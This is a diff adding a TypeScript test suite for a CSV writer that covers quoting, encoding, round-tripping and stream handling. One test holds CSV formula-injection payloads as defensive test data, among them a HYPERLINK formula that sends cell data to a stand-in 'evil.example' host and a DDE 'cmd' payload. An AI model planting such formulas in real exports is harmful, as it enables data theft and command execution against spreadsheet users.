@@ -1,0 +1,132 @@
+import { Writable } from 'node:stream';
+import { expect } from 'chai';
+import papaparse from 'papaparse';
+import { writeCsv, type CsvRecord } from './csv.ts';
+
+const COLUMNS = ['name', 'note'] as const;
+type Line = CsvRecord<(typeof COLUMNS)[number]>;
+
+async function* linesOf(lines: readonly Line[]): AsyncGenerator<Line> {
+  for (const line of lines) yield await Promise.resolve(line);
+}
+
+const written = async (...lines: readonly Line[]): Promise<string> => {
+  const chunks: Buffer[] = [];
+  const sink = new Writable({
+    write: (chunk: Buffer, _encoding, done) => {
+      chunks.push(chunk);
+      done();
+    },
+  });
+  await writeCsv(COLUMNS, linesOf(lines), sink);
+  return Buffer.concat(chunks).toString('utf8');
+};
+
+/** By a reader that is not of the writer's house. */
+const readBack = (text: string): readonly (readonly string[])[] => {
+  const { data, errors } = papaparse.parse<string[]>(text.replace(/^\uFEFF/, '').trimEnd(), { delimiter: ',' });
+  expect(errors).to.deep.equal([]);
+  return data;
+};
+
+describe('a CSV document', () => {
+  it('is records with a header row, CRLF after each, and a mark of its encoding', async () => {
+    expect(await written({ name: 'Größe 信頼', note: 'plain' })).to.equal('\uFEFFname,note\r\nGröße 信頼,plain\r\n');
+  });
+
+  it('has a header row also without a record', async () => {
+    expect(await written()).to.equal('\uFEFFname,note\r\n');
+  });
+
+  it('quotes what would end a cell or a record, and doubles quotes', async () => {
+    expect(await written({ name: 'a,b', note: 'say "no"' })).to.equal('\uFEFFname,note\r\n"a,b","say ""no"""\r\n');
+  });
+
+  it('is read back as it was by another reader, whatever a cell holds', async () => {
+    const hostile = [
+      '"',
+      '""',
+      ',',
+      '",',
+      '\n',
+      '\r',
+      '\r\n',
+      'a\rb',
+      'a\nb',
+      '";"',
+      "'",
+      ';',
+      'x\uFEFF',
+      ' a ',
+      '\u2028',
+      '"\r\n"',
+    ];
+    const lines = hostile.map((text, index) => ({ name: `x${text}`, note: `${index}${text}x` }));
+    expect(readBack(await written(...lines)).slice(1)).to.deep.equal(lines.map(({ name, note }) => [name, note]));
+  });
+
+  it('has no cell that a spreadsheet takes for a formula', async () => {
+    const formulas = [
+      '=1+1',
+      '+1',
+      '-1+2',
+      '@SUM(A1)',
+      '\t=1+1',
+      '\r=1+1',
+      '=HYPERLINK("https://evil.example?"&A1,"x")',
+      "=cmd|' /C calc'!A0",
+      '＝1+1',
+    ];
+    const cells = readBack(await written(...formulas.map((text) => ({ name: text, note: `kept ${text}` }))));
+    expect(cells.slice(1)).to.deep.equal(formulas.map((text) => [`'${text}`, `kept ${text}`]));
+  });
+
+  it('says yes and no, writes numbers as they are, and leaves empty what is not there', async () => {
+    expect(readBack(await written({ name: true, note: false }, { name: 7, note: null }))).to.deep.equal([
+      ['name', 'note'],
+      ['yes', 'no'],
+      ['7', ''],
+    ]);
+  });
+
+  it('asks for no more records than are taken, and for none once nobody takes them', async () => {
+    let asked = 0;
+    let ended = false;
+    async function* endless(): AsyncGenerator<Line> {
+      try {
+        for (;;) {
+          asked += 1;
+          yield await Promise.resolve({ name: 'x'.repeat(1_000), note: '' });
+        }
+      } finally {
+        ended = true;
+      }
+    }
+    let taken = 0;
+    const leaving = new Writable({
+      write: (chunk: Buffer, _encoding, done) => {
+        taken += chunk.length;
+        if (taken > 100_000) leaving.destroy();
+        else done();
+      },
+    });
+    const failure: unknown = await writeCsv(COLUMNS, endless(), leaving).catch((error: unknown) => error);
+    expect(failure).to.be.instanceOf(Error);
+    expect(ended).to.equal(true);
+    expect(asked).to.be.below(500);
+  });
+
+  it('ends with what its records end with', async () => {
+    async function* failing(): AsyncGenerator<Line> {
+      yield await Promise.resolve({ name: 'a', note: 'b' });
+      throw new Error('the database went away');
+    }
+    const sink = new Writable({
+      write: (_chunk, _encoding, done) => {
+        done();
+      },
+    });
+    const failure: unknown = await writeCsv(COLUMNS, failing(), sink).catch((error: unknown) => error);
+    expect(failure).to.have.property('message', 'the database went away');
+  });
+});
